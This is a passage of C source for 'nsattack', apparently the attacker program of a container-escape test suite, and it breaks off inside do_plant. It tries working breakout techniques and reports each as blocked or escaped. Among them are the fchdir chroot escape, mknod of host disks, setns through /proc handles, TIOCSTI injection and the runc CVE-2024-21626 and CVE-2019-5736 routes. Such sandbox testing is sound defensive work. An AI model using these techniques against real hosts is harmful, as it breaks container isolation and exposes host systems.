/* nsattack: the attacker of the escape suite. It runs INSIDE a container and tries one way
 * out per mode. Every attempt prints one line:
 *   BLOCKED <what>: <why>        the way out is closed
 *   ESCAPED <what>: <detail>     the way out is open (the test fails on it)
 *   INFO <what>                  context for the reader
 * Exit status: 0 when nothing escaped, 1 when something did, 2 on a usage error.
 * Built with `gcc -static` at test time, so it runs in any root (busybox or empty). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int escaped;

static void blocked(const char *what, const char *why) { printf("BLOCKED %s: %s\n", what, why); }
static void blocked_errno(const char *what) { printf("BLOCKED %s: %s\n", what, strerror(errno)); }
static void escape(const char *what, const char *detail) {
    printf("ESCAPED %s: %s\n", what, detail);
    escaped = 1;
}

static long now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* read PATH...: each path must be unreadable (it names a host-only file). */
static void do_read(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        char buf[256];
        int fd = open(argv[i], O_RDONLY | O_CLOEXEC);
        if (fd < 0) { blocked_errno(argv[i]); continue; }
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n < 0) { blocked_errno(argv[i]); continue; }
        buf[n] = 0;
        escape(argv[i], buf);
    }
}

/* chroot MARKER: the classic fchdir escape out of a nested chroot, then look for MARKER
 * (an absolute host path) and for a root other than the container's. */
static void do_chroot(const char *marker) {
    struct stat root_before, root_after;
    stat("/", &root_before);
    int dirs[] = {0};
    (void)dirs;
    const char *bases[] = {"/tmp", "/dev/shm", "/"};
    int out = -1;
    char jail[256] = "";
    for (unsigned i = 0; i < sizeof bases / sizeof *bases; i++) {
        snprintf(jail, sizeof jail, "%s/nsattack-jail-%d", strcmp(bases[i], "/") ? bases[i] : "", getpid());
        if (mkdir(jail, 0700) == 0 || errno == EEXIST) break;
        jail[0] = 0;
    }
    if (!jail[0]) { blocked_errno("chroot escape (no writable dir for a jail)"); return; }
    out = open(".", O_RDONLY | O_DIRECTORY);
    if (chroot(jail) != 0) { blocked_errno("chroot escape: chroot(jail)"); rmdir(jail); return; }
    if (fchdir(out) != 0) { blocked_errno("chroot escape: fchdir"); return; }
    for (int i = 0; i < 256; i++) chdir("..");
    if (chroot(".") != 0) { blocked_errno("chroot escape: chroot(.)"); return; }
    stat("/", &root_after);
    int fd = open(marker, O_RDONLY);
    if (fd >= 0) { close(fd); escape("chroot escape with fchdir", "the host marker is readable"); }
    else if (root_after.st_dev != root_before.st_dev || root_after.st_ino != root_before.st_ino)
        escape("chroot escape with fchdir", "reached a root above the container's");
    else blocked("chroot escape with fchdir", "'..' stops at the container's root (pivot_root)");
    rmdir(jail);
}

/* mknod MAJ MIN: make the host disk's block node, read it, mount it. */
static void do_mknod(unsigned maj, unsigned min) {
    const char *dirs[] = {"/tmp", "/dev", "/dev/shm", "/"};
    char node[256];
    int made = 0;
    for (unsigned i = 0; i < sizeof dirs / sizeof *dirs; i++) {
        snprintf(node, sizeof node, "%s/nsattack-disk-%d", strcmp(dirs[i], "/") ? dirs[i] : "", getpid());
        char what[300];
        snprintf(what, sizeof what, "mknod %s b %u:%u", node, maj, min);
        if (mknod(node, S_IFBLK | 0600, makedev(maj, min)) != 0) { blocked_errno(what); continue; }
        made = 1;
        printf("INFO %s succeeded\n", what);
        int fd = open(node, O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            snprintf(what, sizeof what, "open the host disk through %s", node);
            blocked_errno(what);
        } else {
            char buf[512];
            ssize_t n = read(fd, buf, sizeof buf);
            snprintf(what, sizeof what, "read the host disk through %s", node);
            if (n > 0) escape(what, "raw blocks of the host's disk are readable");
            else blocked_errno(what);
            close(fd);
        }
        mkdir("/tmp/nsattack-mnt", 0700);
        snprintf(what, sizeof what, "mount the host disk through %s", node);
        const char *types[] = {"ext4", "xfs", "btrfs"};
        int mounted = 0;
        for (unsigned t = 0; t < 3 && !mounted; t++)
            if (mount(node, "/tmp/nsattack-mnt", types[t], MS_RDONLY, NULL) == 0) mounted = 1;
        if (mounted) { escape(what, "the host's file system is mounted"); umount2("/tmp/nsattack-mnt", MNT_DETACH); }
        else blocked_errno(what);
        rmdir("/tmp/nsattack-mnt");
        unlink(node);
    }
    if (!made) printf("INFO no block node could be made\n");
}

/* sysctl: core_pattern and sysrq-trigger must not be writable. Nothing harmful is written:
 * core_pattern gets its own value back, sysrq-trigger is only opened. */
static void write_own_value(const char *path) {
    char cur[512] = "", what[600];
    snprintf(what, sizeof what, "write %s", path);
    int fd = open(path, O_RDONLY);
    if (fd < 0) { printf("INFO %s: %s\n", path, strerror(errno)); return; }
    ssize_t n = read(fd, cur, sizeof cur - 1);
    cur[n > 0 ? n : 0] = 0;
    close(fd);
    fd = open(path, O_WRONLY);
    if (fd < 0) { blocked_errno(what); return; }
    if (write(fd, cur, strlen(cur)) >= 0) escape(what, "written (its own value)");
    else blocked_errno(what);
    close(fd);
}

static void do_sysctl(void) {
    const char *paths[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
                           "/proc/sys/kernel/hotplug", "/sys/kernel/uevent_helper",
                           "/proc/sys/fs/binfmt_misc/status", "/proc/sys/vm/panic_on_oom", NULL};
    for (int i = 0; paths[i]; i++) write_own_value(paths[i]);
    int fd = open("/proc/sysrq-trigger", O_WRONLY);
    if (fd >= 0) { close(fd); escape("write /proc/sysrq-trigger", "opened for writing"); }
    else if (errno == ENOENT) printf("INFO /proc/sysrq-trigger: %s (this kernel has none)\n", strerror(errno));
    else blocked_errno("write /proc/sysrq-trigger");
}

static int read_file(const char *path, char *buf, size_t len) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = read(fd, buf, len - 1);
    close(fd);
    if (n < 0) return -1;
    for (ssize_t i = 0; i < n; i++) if (buf[i] == 0) buf[i] = ' ';
    buf[n] = 0;
    return (int)n;
}

static const char *tools[] = {"pidns", "mntns", "netns", "userns", "utsns", "ipcns", "nsps", NULL};

static int is_tool(const char *cmdline) {
    const char *first = cmdline;
    const char *end = strchr(first, ' ');
    size_t len = end ? (size_t)(end - first) : strlen(first);
    const char *base = first;
    for (const char *p = first; p < first + len; p++) if (*p == '/') base = p + 1;
    size_t blen = (size_t)(first + len - base);
    for (int i = 0; tools[i]; i++) if (strlen(tools[i]) == blen && !strncmp(base, tools[i], blen)) return 1;
    return 0;
}

/* procs MARKER: no host process (MARKER in its cmdline) and no link of the chain (the pidns
 * monitor) may be visible; PID 1 (the init) may be seen but neither traced nor entered. */
static void do_procs(const char *reversed) {
    char marker[256];
    size_t ml = strlen(reversed);
    if (ml >= sizeof marker) ml = sizeof marker - 1;
    for (size_t i = 0; i < ml; i++) marker[i] = reversed[ml - 1 - i];
    marker[ml] = 0;
    DIR *d = opendir("/proc");
    if (!d) { blocked_errno("open /proc"); return; }
    struct dirent *e;
    int seen_host = 0, seen_tool = 0, count = 0;
    while ((e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 0) continue;
        count++;
        char path[64], cmd[4096];
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        if (read_file(path, cmd, sizeof cmd) < 0) continue;
        if (strstr(cmd, marker)) {
            char what[128];
            snprintf(what, sizeof what, "see a host process (pid %d here)", pid);
            escape(what, cmd);
            seen_host = 1;
            if (kill(pid, 0) == 0) escape("signal a host process", cmd);
        }
        if (pid != 1 && is_tool(cmd)) {
            char what[128];
            snprintf(what, sizeof what, "see a link of the chain (pid %d here)", pid);
            escape(what, cmd);
            seen_tool = 1;
        }
    }
    closedir(d);
    printf("INFO %d processes visible\n", count);
    if (!seen_host) blocked("see or signal a host process", "not in this pid namespace");
    if (!seen_tool) blocked("see the pidns monitor", "not in this pid namespace");
    /* The init (PID 1) of pidns. */
    if (ptrace(PTRACE_ATTACH, 1, 0, 0) == 0) {
        waitpid(1, NULL, __WALL);
        ptrace(PTRACE_DETACH, 1, 0, 0);
        escape("ptrace the init (PID 1)", "attached");
    } else blocked_errno("ptrace the init (PID 1)");
    const char *links[] = {"/proc/1/root/.", "/proc/1/cwd/.", "/proc/1/exe", "/proc/1/environ", "/proc/1/fd/0", "/proc/1/ns/mnt", "/proc/1/mem", NULL};
    for (int i = 0; links[i]; i++) {
        char what[128];
        snprintf(what, sizeof what, "open %s of the init", links[i]);
        int fd = open(links[i], O_RDONLY | O_CLOEXEC);
        if (fd < 0) blocked_errno(what);
        else { close(fd); escape(what, "opened"); }
    }
    /* SIGKILL from inside is ignored by the kernel for the namespace's init: check it lives. */
    kill(1, SIGKILL);
    usleep(100000);
    if (kill(1, 0) == 0) blocked("kill the init (PID 1)", "SIGKILL from inside is ignored");
    else escape("kill the init (PID 1)", "it is gone");
}

static int ns_inode(const char *path, ino_t *ino) {
    struct stat st;
    if (stat(path, &st) != 0) return -1;
    *ino = st.st_ino;
    return 0;
}

static void try_setns_fd(int fd, const char *origin) {
    struct stat st;
    if (fstat(fd, &st) != 0) return;
    const char *types[] = {"mnt", "pid", "net", "ipc", "uts", "user", "cgroup", "time", NULL};
    for (int i = 0; types[i]; i++) {
        char own[64];
        ino_t ino;
        snprintf(own, sizeof own, "/proc/self/ns/%s", types[i]);
        if (ns_inode(own, &ino) == 0 && ino == st.st_ino) return; /* our own namespace */
    }
    char what[512];
    snprintf(what, sizeof what, "setns through %s", origin);
    if (setns(fd, 0) == 0) escape(what, "entered another namespace");
    else if (errno != EINVAL) blocked_errno(what);
    else blocked(what, "not a namespace");
}

/* setns: every /proc/PID/ns/TYPE and every inherited fd. */
static void do_setns(void) {
    DIR *d = opendir("/proc");
    int tried = 0;
    struct dirent *e;
    while (d && (e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        const char *types[] = {"mnt", "pid", "net", "ipc", "uts", "user", "cgroup", "time", "pid_for_children", "time_for_children", NULL};
        for (int i = 0; types[i]; i++) {
            char path[128];
            snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, types[i]);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) {
                if (errno != ENOENT) { char w[200]; snprintf(w, sizeof w, "open %s", path); blocked_errno(w); }
                continue;
            }
            tried++;
            try_setns_fd(fd, path);
            close(fd);
        }
    }
    if (d) closedir(d);
    for (int fd = 3; fd < 1024; fd++) {
        char link[64], target[512];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, target, sizeof target - 1);
        if (n < 0) continue;
        target[n] = 0;
        char origin[600];
        snprintf(origin, sizeof origin, "inherited fd %d (%s)", fd, target);
        tried++;
        try_setns_fd(fd, origin);
    }
    printf("INFO %d namespace handles tried\n", tried);
    blocked("setns", "done");
}

/* Where does the directory of fd lead when walked up with '..'? Returns 1 if its top is not
 * the root we see. */
static int outside_root(int dirfd) {
    struct stat root, cur, up;
    if (stat("/", &root) != 0) return 0;
    int fd = dup(dirfd);
    for (int i = 0; i < 4096; i++) {
        if (fstat(fd, &cur) != 0) break;
        int parent = openat(fd, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (parent < 0) break;
        fstat(parent, &up);
        close(fd);
        fd = parent;
        if (up.st_dev == cur.st_dev && up.st_ino == cur.st_ino) break;
    }
    fstat(fd, &cur);
    close(fd);
    return cur.st_dev != root.st_dev || cur.st_ino != root.st_ino;
}

/* fds: no fd but 0-2 may be open, no directory fd may lead outside, the cwd must be inside. */
static void do_fds(void) {
    int fd_here = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    char cwd[4096];
    if (!getcwd(cwd, sizeof cwd)) snprintf(cwd, sizeof cwd, "(unreachable: %s)", strerror(errno));
    printf("INFO cwd %s\n", cwd);
    if (fd_here >= 0 && outside_root(fd_here)) escape("working directory (CVE-2024-21626)", cwd);
    else blocked("working directory outside the root (CVE-2024-21626)", "the cwd is inside the root");
    int leaked = 0;
    for (int fd = 3; fd < 4096; fd++) {
        if (fd == fd_here) continue;
        char link[64], target[512];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, target, sizeof target - 1);
        if (n < 0) continue;
        target[n] = 0;
        char what[700];
        snprintf(what, sizeof what, "inherited fd %d -> %s (CVE-2024-21626)", fd, target);
        leaked = 1;
        struct stat st;
        if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode) && outside_root(fd)) escape(what, "a directory outside the root");
        else escape(what, "a file descriptor left open by a link");
        /* The runc exploit: chdir through /proc/self/fd/N. */
        if (S_ISDIR(st.st_mode) && chdir(link) == 0) {
            int here = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            if (here >= 0 && outside_root(here)) escape("chdir /proc/self/fd/N (CVE-2024-21626)", target);
            if (here >= 0) close(here);
            if (fd_here >= 0) fchdir(fd_here);
        }
    }
    if (!leaked) blocked("inherited file descriptors (CVE-2024-21626)", "only 0, 1, 2 are open");
    /* Also the ones a process could reach through PID 1. */
    for (int fd = 0; fd < 64; fd++) {
        char link[64];
        snprintf(link, sizeof link, "/proc/1/fd/%d", fd);
        int h = open(link, O_RDONLY | O_CLOEXEC);
        if (h >= 0) {
            char what[100];
            snprintf(what, sizeof what, "open %s (CVE-2024-21626)", link);
            if (outside_root(h)) escape(what, "leads outside the root");
            close(h);
        }
    }
}

/* exe-watch MS DEV:INO...: for MS milliseconds, watch every new process; while it runs one
 * of the host binaries given, try to turn its /proc/PID/exe into a writable handle
 * (CVE-2019-5736: O_PATH while it runs, O_WRONLY through /proc/self/fd once nothing runs
 * it any more). Nothing is ever written. */
static int ours(int fd, int n, unsigned long long *devs, unsigned long long *inos) {
    struct stat st;
    if (fstat(fd, &st) != 0) return 0;
    for (int i = 0; i < n; i++)
        if (devs[i] == (unsigned long long)st.st_dev && inos[i] == (unsigned long long)st.st_ino) return 1;
    return 0;
}

static void do_exe_watch(int ms, int argc, char **argv) {
    unsigned long long devs[64], inos[64];
    int n = 0;
    for (int i = 0; i < argc && n < 64; i++)
        if (sscanf(argv[i], "%llu:%llu", &devs[n], &inos[n]) == 2) n++;
    static char seen[1 << 22];
    long end = now_ms() + ms;
    int handles = 0, scans = 0, tools_seen = 0, denied = 0;
    int held[64], nheld = 0;
    char held_name[64][256];
    while (now_ms() < end) {
        scans++;
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid() || pid >= (1 << 22) || seen[pid]) continue;
            seen[pid] = 1;
            char path[64], comm[64] = "";
            snprintf(path, sizeof path, "/proc/%d/comm", pid);
            read_file(path, comm, sizeof comm);
            char *nl = strchr(comm, '\n');
            if (nl) *nl = 0;
            int is = 0;
            for (int i = 0; tools[i]; i++) if (!strcmp(comm, tools[i])) is = 1;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            /* Spin on the process while it is one of ours: the window between the drop of
             * its capabilities and its exec is short. */
            long until = now_ms() + (is ? 300 : 0);
            if (is) tools_seen++;
            do {
                int fd = open(path, O_PATH | O_CLOEXEC);
                if (fd < 0) {
                    if (errno == ENOENT || errno == ESRCH) break;
                    if (errno == EACCES || errno == EPERM) { denied++; continue; }
                    break;
                }
                if (ours(fd, n, devs, inos) && nheld < 64) {
                    handles++;
                    char fdpath[64];
                    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
                    ssize_t l = readlink(fdpath, held_name[nheld], 255);
                    held_name[nheld][l > 0 ? l : 0] = 0;
                    /* One handle per binary: each is retried below for a while, not 64 times. */
                    int dup = 0;
                    for (int j = 0; j < nheld; j++) if (!strcmp(held_name[j], held_name[nheld])) dup = 1;
                    /* A binary already held: stay on this process, it may exec the next
                     * link (pidns's child becomes mntns) within the window. */
                    if (dup) { close(fd); usleep(100); continue; }
                    printf("INFO an O_PATH handle to a host binary of the chain: pid %d (%s) exe %s\n", pid, comm, held_name[nheld]);
                    held[nheld++] = fd;
                } else close(fd);
                break;
            } while (now_ms() < until);
        }
        if (d) closedir(d);
    }
    printf("INFO %d scans, %d links of the chain seen, %d denied opens, %d handles\n", scans, tools_seen, denied, handles);
    for (int i = 0; i < nheld; i++) {
        char self[64], what[600];
        snprintf(self, sizeof self, "/proc/self/fd/%d", held[i]);
        long until = now_ms() + 5000;
        int w = -1;
        while (now_ms() < until && (w = open(self, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY) usleep(1000);
        snprintf(what, sizeof what, "a writable handle to the host binary %s (CVE-2019-5736)", held_name[i]);
        if (w >= 0) { escape(what, "reopened O_WRONLY through /proc/self/fd (nothing written)"); close(w); }
        else blocked_errno(what);
        close(held[i]);
    }
    if (!escaped) blocked("writable handle to a host binary (CVE-2019-5736)", "none obtained");
}

/* net TCPPORT ABSTRACT: the host's 127.0.0.1:PORT and abstract socket @ABSTRACT. */
static void do_net(int port, const char *abstract) {
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(port)};
    in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (s >= 0 && connect(s, (struct sockaddr *)&in, sizeof in) == 0) {
        char buf[64] = "";
        ssize_t n = read(s, buf, sizeof buf - 1);
        buf[n > 0 ? n : 0] = 0;
        escape("reach a host service on 127.0.0.1", buf);
    } else blocked_errno("reach a host service on 127.0.0.1");
    if (s >= 0) close(s);
    s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un un = {.sun_family = AF_UNIX};
    size_t len = strlen(abstract);
    memcpy(un.sun_path + 1, abstract, len);
    if (s >= 0 && connect(s, (struct sockaddr *)&un, offsetof(struct sockaddr_un, sun_path) + 1 + len) == 0)
        escape("reach a host abstract unix socket", abstract);
    else blocked_errno("reach a host abstract unix socket");
    if (s >= 0) close(s);
}

/* serve PORT ABSTRACT: the host side of `net` (run on the host, in the test's namespace). */
static void do_serve(int port, const char *abstract) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    int one = 1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(port)};
    in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (bind(s, (struct sockaddr *)&in, sizeof in) || listen(s, 16)) { perror("tcp"); exit(2); }
    int u = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un un = {.sun_family = AF_UNIX};
    size_t len = strlen(abstract);
    memcpy(un.sun_path + 1, abstract, len);
    if (bind(u, (struct sockaddr *)&un, offsetof(struct sockaddr_un, sun_path) + 1 + len) || listen(u, 16)) { perror("unix"); exit(2); }
    printf("ready\n");
    fflush(stdout);
    for (;;) {
        fd_set set;
        FD_ZERO(&set);
        FD_SET(s, &set);
        FD_SET(u, &set);
        if (select((s > u ? s : u) + 1, &set, NULL, NULL, NULL) < 0) continue;
        int c = FD_ISSET(s, &set) ? accept(s, NULL, NULL) : accept(u, NULL, NULL);
        if (c >= 0) { write(c, "host-service\n", 13); close(c); }
    }
}

/* sysv KEY: the host's SysV objects with KEY must not be found. */
static void do_sysv(key_t key) {
    if (shmget(key, 0, 0) >= 0) escape("see host SysV shared memory", "found"); else blocked_errno("see host SysV shared memory");
    if (msgget(key, 0) >= 0) escape("see a host SysV message queue", "found"); else blocked_errno("see a host SysV message queue");
    if (semget(key, 0, 0) >= 0) escape("see a host SysV semaphore", "found"); else blocked_errno("see a host SysV semaphore");
}

/* tiocsti: push a command into every terminal reachable (CVE-2017-5226). */
static void do_tiocsti(const char *text) {
    int fds[8], n = 0;
    for (int fd = 0; fd < 3; fd++) fds[n++] = fd;
    int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (tty >= 0) fds[n++] = tty; else { printf("INFO /dev/tty: %s\n", strerror(errno)); }
    int pushed = 0;
    for (int i = 0; i < n; i++) {
        if (!isatty(fds[i])) continue;
        int ok = 1;
        for (const char *c = text; *c; c++)
            if (ioctl(fds[i], TIOCSTI, c) != 0) { ok = 0; break; }
        char what[64];
        snprintf(what, sizeof what, "TIOCSTI on fd %d (CVE-2017-5226)", fds[i]);
        if (ok) { escape(what, "keystrokes pushed into the terminal"); pushed = 1; }
        else blocked_errno(what);
    }
    if (!pushed) blocked("TIOCSTI (CVE-2017-5226)", "no terminal accepted keystrokes");
}

/* devnull: /dev/null and the masked paths must be the real null device (CVE-2025-31133). */
static void do_devnull(void) {
    const char *paths[] = {"/dev/null", "/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/latency_stats", NULL};
    for (int i = 0; paths[i]; i++) {
        struct stat st;
        char what[128];
        snprintf(what, sizeof what, "%s is the null device (CVE-2025-31133)", paths[i]);
        if (lstat(paths[i], &st) != 0) { printf("INFO %s: %s\n", paths[i], strerror(errno)); continue; }
        if (S_ISCHR(st.st_mode) && major(st.st_rdev) == 1 && minor(st.st_rdev) == 3) blocked(what, "char 1:3");
        else if (S_ISREG(st.st_mode) && st.st_size == 0 && i > 0) {
            int fd = open(paths[i], O_WRONLY);
            if (fd >= 0) { close(fd); escape(what, "a writable regular file"); } else blocked(what, "an empty read-only file");
        } else {
            char detail[128];
            snprintf(detail, sizeof detail, "mode %o rdev %u:%u", st.st_mode, major(st.st_rdev), minor(st.st_rdev));
            escape(what, detail);
        }
    }
    char cur[512] = "";
    int fd = open("/proc/sys/kernel/core_pattern", O_RDONLY);
    if (fd >= 0) { ssize_t n = read(fd, cur, sizeof cur - 1); cur[n > 0 ? n : 0] = 0; close(fd); }
    fd = open("/dev/null", O_WRONLY);
    if (fd >= 0) {
        struct stat st;
        fstat(fd, &st);
        if (!(S_ISCHR(st.st_mode) && major(st.st_rdev) == 1 && minor(st.st_rdev) == 3)) escape("write through /dev/null (CVE-2025-31133)", "it is not the null device");
        close(fd);
    }
}

static void do_mksysv(key_t key) {
    if (shmget(key, 4096, IPC_CREAT | 0600) < 0) perror("shmget");
    if (msgget(key, IPC_CREAT | 0600) < 0) perror("msgget");
    if (semget(key, 1, IPC_CREAT | 0600) < 0) perror("semget");
}

static void do_sethostname(const char *name) {
    if (sethostname(name, strlen(name)) == 0) printf("INFO hostname set to %s in this UTS namespace\n", name);
    else blocked_errno("sethostname");
}

/* join: a process joined to the container (nsps exec) must not lead to the host. */

/* root-watch MS FILE MARKER DIR [STOP]: for MS milliseconds, or until the file STOP exists
 * (the test made it once its joiner ended), every new process is tried as a way to the host:
 * STOP.ready is made once the processes already there are known (the joiner may start then);
 * read FILE (a host-only file holding MARKER) and create a file in DIR (a host-only
 * directory) through /proc/PID/root. */
static void do_root_watch(int ms, const char *file, const char *marker, const char *dir,
                          const char *stop) {
    static char seen[1 << 22];
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid > 0 && pid < (1 << 22)) seen[pid] = 1;
    }
    if (d) closedir(d);
    if (stop) {
        char ready[600];
        snprintf(ready, sizeof ready, "%s.ready", stop);
        int fd = open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd >= 0) close(fd);
    }
    long end = now_ms() + ms;
    int joined = 0, denied = 0, host = 0;
    while (now_ms() < end && !escaped && !(stop && access(stop, F_OK) == 0)) {
        d = opendir("/proc");
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid() || pid >= (1 << 22) || seen[pid]) continue;
            seen[pid] = 1;
            joined++;
            char path[600], buf[256] = "", what[700];
            /* Spin on it for a while: it may reach the container's root only later. */
            long until = now_ms() + 300;
            do {
                snprintf(path, sizeof path, "/proc/%d/root%s", pid, file);
                int fd = open(path, O_RDONLY | O_CLOEXEC);
                if (fd < 0) {
                    if (errno == EACCES || errno == EPERM) denied++;
                    continue;
                }
                ssize_t n = read(fd, buf, sizeof buf - 1);
                close(fd);
                buf[n > 0 ? n : 0] = 0;
                if (!strstr(buf, marker)) continue;
                host++;
                snprintf(what, sizeof what, "the host file %s read through /proc/%d/root", file, pid);
                escape(what, "it holds the host's marker");
                snprintf(path, sizeof path, "/proc/%d/root%s/written-by-container", pid, dir);
                fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
                snprintf(what, sizeof what, "a file created on the host in %s through /proc/%d/root", dir, pid);
                if (fd >= 0) { escape(what, "created"); close(fd); }
                else blocked_errno(what);
                break;
            } while (now_ms() < until);
        }
        if (d) closedir(d);
    }
    printf("INFO %d new processes seen, %d denied opens, %d led to the host\n", joined, denied, host);
    if (!joined) { printf("NOTRUN no process joined the container while it watched\n"); return; }
    if (!escaped) blocked("the host's files through /proc/PID/root of a joined process", "none led there");
}

/* status-like PID: compares this process's credentials with those of process PID (the
 * container's payload); any difference is a joined process with other rights than the
 * container's. */
static void do_status_like(int pid) {
    static const char *fields[] = {"Uid:", "Gid:", "Groups:", "CapInh:", "CapPrm:", "CapEff:",
                                   "CapBnd:", "CapAmb:", "NoNewPrivs:", "Seccomp:", NULL};
    char mine[4096] = "", theirs[4096] = "", path[64];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    if (read_file("/proc/self/status", mine, sizeof mine) < 0 || read_file(path, theirs, sizeof theirs) < 0) {
        printf("NOTRUN unable to read %s\n", path);
        return;
    }
    for (int i = 0; fields[i]; i++) {
        char a[256] = "", b[256] = "", *p;
        if ((p = strstr(mine, fields[i]))) sscanf(p, "%255[^\n]", a);
        if ((p = strstr(theirs, fields[i]))) sscanf(p, "%255[^\n]", b);
        printf("INFO joined %s | container %s\n", a, b);
        char what[600];
        snprintf(what, sizeof what, "the joined process's %s as the container's", fields[i]);
        if (strcmp(a, b)) escape(what, "they differ");
        else blocked(what, "the same");
    }
}
/* devices */
/* devnode MAJ MIN MARKER DIR...: in each DIR, make the block node MAJ:MIN (a loop device the
 * test attached to a host file) and write MARKER at its start, then make and open the nodes of
 * host character devices (fuse, loop-control, kvm, tty1). A node that opens is a way to the
 * host's device: without a device cgroup only `nodev` mounts stop it. */
static void do_devnode(unsigned maj, unsigned min, const char *marker, int argc, char **argv) {
    static const struct { const char *name; unsigned maj, min; } chars[] = {
        {"fuse", 10, 229}, {"loop-control", 10, 237}, {"kvm", 10, 232}, {"tty1", 4, 1},
    };
    for (int i = 0; i < argc; i++) {
        char node[300], what[400];
        snprintf(node, sizeof node, "%s/nsattack-blk-%d", strcmp(argv[i], "/") ? argv[i] : "", getpid());
        snprintf(what, sizeof what, "mknod %s b %u:%u", node, maj, min);
        if (mknod(node, S_IFBLK | 0600, makedev(maj, min)) != 0) { blocked_errno(what); }
        else {
            printf("INFO %s succeeded\n", what);
            snprintf(what, sizeof what, "write the host's loop device through %s", node);
            int fd = open(node, O_RDWR | O_CLOEXEC);
            if (fd < 0) blocked_errno(what);
            else {
                size_t len = strlen(marker);
                if (pwrite(fd, marker, len, 0) == (ssize_t)len && fsync(fd) == 0) escape(what, "the block device is writable");
                else blocked_errno(what);
                close(fd);
            }
            unlink(node);
        }
        for (unsigned c = 0; c < sizeof chars / sizeof *chars; c++) {
            snprintf(node, sizeof node, "%s/nsattack-%s-%d", strcmp(argv[i], "/") ? argv[i] : "", chars[c].name, getpid());
            snprintf(what, sizeof what, "mknod %s c %u:%u", node, chars[c].maj, chars[c].min);
            if (mknod(node, S_IFCHR | 0600, makedev(chars[c].maj, chars[c].min)) != 0) { blocked_errno(what); continue; }
            printf("INFO %s succeeded\n", what);
            snprintf(what, sizeof what, "open the host's %s through %s", chars[c].name, node);
            int fd = open(node, O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
            if (fd >= 0) { escape(what, "the character device opened"); close(fd); }
            else blocked_errno(what);
            unlink(node);
        }
    }
}
/* end devices */

/* setuid */
/* plant DIR MAJ MIN: as the container's root, make in DIR the ways to root a host user could
 * run through the host's path: copies of this program made setuid root (chmod, open with the
 * mode, fchmod), setgid root, with a file capability (cap_setuid), and the block node
 * MAJ:MIN open to all. Prints INFO for what was made, BLOCKED for what was refused; the test
 * judges from the host, as another user. */
static int copy_self(const char *dst, mode_t mode) {
    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (in < 0) return -1;
    int out = open(dst, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
    if (out < 0) { int e = errno; close(in); errno = e; return -1; }
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, n) != n) { int e = errno; close(in); close(out); errno = e; return -1; }
    close(in);
    return out;
}

static void planted(const char *what, const char *path, int rc) {
    char line[400];
    snprintf(line, sizeof line, "%s %s", what, path);
    if (rc == 0) {
        struct stat st;
        if (stat(path, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID)) == 0 && strstr(what, "cap") == NULL && strstr(what, "node") == NULL)
            printf("BLOCKED %s: the mode bits were cleared (mode %o)\n", line, st.st_mode & 07777);
        else printf("INFO planted %s\n", line);
    } else blocked_errno(line);
}

static void do_plant(const char *dir, unsigned maj, unsigned min) {
    char path[300];
    int fd, rc;
